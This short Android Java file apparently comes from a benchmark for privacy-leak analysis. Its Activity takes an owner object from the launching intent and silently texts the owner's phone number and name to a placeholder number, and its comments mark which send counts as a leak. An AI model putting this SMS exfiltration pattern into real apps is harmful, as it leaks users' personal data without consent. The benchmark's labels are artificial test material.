package spy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class ParcelsRead extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        Parcels.Owner owner = getIntent().getParcelableExtra("owner");
        SmsManager.getDefault().sendTextMessage("+155501", null, owner.phone, null, null); // leak
        SmsManager.getDefault().sendTextMessage("+155501", null, owner.name, null, null); // no leak
    }
}
